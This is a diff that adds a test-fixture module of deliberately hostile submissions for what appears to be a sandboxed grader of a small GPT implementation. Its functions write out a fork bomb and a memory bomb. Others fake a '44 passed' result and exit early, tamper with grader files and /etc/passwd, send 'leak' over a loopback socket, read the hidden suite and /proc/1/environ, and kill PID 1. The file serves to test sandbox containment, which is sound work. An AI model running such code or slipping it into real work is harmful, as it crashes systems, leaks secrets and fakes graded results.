@@ -1,0 +1,131 @@
+"""Submissions that misbehave, built from the reference so only the misbehaviour differs.
+
+Each function returns source text. Overrides are appended to the reference,
+so the rest of the model stays correct and every other check should keep its
+credit.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+REFERENCE = Path(__file__).resolve().parent.parent / "reference" / "minigpt.py"
+
+
+def reference_with(extra: str) -> str:
+    """The reference with ``extra`` appended (later definitions win)."""
+    return REFERENCE.read_text(encoding="utf-8") + "\n\n" + extra.strip() + "\n"
+
+
+def hang_at_import() -> str:
+    return reference_with("while True:\n    pass")
+
+
+def hang_in_generate() -> str:
+    return reference_with(
+        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
+        "    while True:\n"
+        "        pass"
+    )
+
+
+def exit_in_cross_entropy() -> str:
+    """exit() is refused by the policy; raising SystemExit is not, and must be contained."""
+    return reference_with(
+        "def cross_entropy_loss(logits, targets):\n"
+        "    raise SystemExit(0)"
+    )
+
+
+def os_exit_in_generate() -> str:
+    """Needs --unsafe-skip-policy: ends the process with status 0 mid-call."""
+    return reference_with(
+        "import os\n"
+        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
+        "    print('44 passed')\n"
+        "    os._exit(0)"
+    )
+
+
+def memory_bomb_in_cross_entropy() -> str:
+    return reference_with(
+        "def cross_entropy_loss(logits, targets):\n"
+        "    hoard = []\n"
+        "    while True:\n"
+        "        hoard.append([0.0] * 1_000_000)"
+    )
+
+
+def output_flood() -> str:
+    return reference_with(
+        "_real_forward = MiniGPT.forward\n"
+        "def _loud_forward(self, token_ids):\n"
+        "    print('PASSED ' * 20000)\n"
+        "    return _real_forward(self, token_ids)\n"
+        "MiniGPT.forward = _loud_forward\n"
+        "print('x' * 5_000_000)"
+    )
+
+
+def fork_bomb() -> str:
+    """Needs --unsafe-skip-policy (os is refused): proves the pids limit holds."""
+    return reference_with(
+        "import os\n"
+        "def generate(model, start_ids, max_new_tokens, temperature=1.0):\n"
+        "    while True:\n"
+        "        try:\n"
+        "            os.fork()\n"
+        "        except OSError:\n"
+        "            pass"
+    )
+
+
+def write_outside_scratch(target: str) -> str:
+    """Needs --unsafe-skip-policy: tries to write where it must not, then fakes a pass."""
+    return reference_with(
+        "def _try_writes():\n"
+        f"    for path in ({target!r}, '/opt/grader/grader/suite/test_shapes.py',\n"
+        "                 '/submission/minigpt.py', '/usr/x', '/tmp/../etc/passwd'):\n"
+        "        try:\n"
+        "            with open(path, 'a') as handle:\n"
+        "                handle.write('tampered')\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "_try_writes()"
+    )
+
+
+def connect_to(port: int) -> str:
+    """Needs --unsafe-skip-policy: tries to reach a listener on the host's loopback."""
+    return reference_with(
+        "import socket\n"
+        "def _phone_home():\n"
+        "    try:\n"
+        f"        socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'leak')\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "_phone_home()"
+    )
+
+
+def read_hidden_suite() -> str:
+    """Needs --unsafe-skip-policy: tries to read the judge's files and raise the grade."""
+    return reference_with(
+        "import os, signal\n"
+        "def _snoop():\n"
+        "    found = []\n"
+        "    for path in ('/opt/grader/grader/suite/test_shapes.py',\n"
+        "                 '/opt/grader/reference/minigpt.py', '/proc/1/environ'):\n"
+        "        try:\n"
+        "            found.append(open(path).read(10))\n"
+        "        except OSError:\n"
+        "            pass\n"
+        "    try:\n"
+        "        os.kill(1, signal.SIGTERM)\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "    return found\n"
+        "STOLEN = _snoop()\n"
+        "if STOLEN:\n"
+        "    raise RuntimeError('read the hidden suite')"
+    )
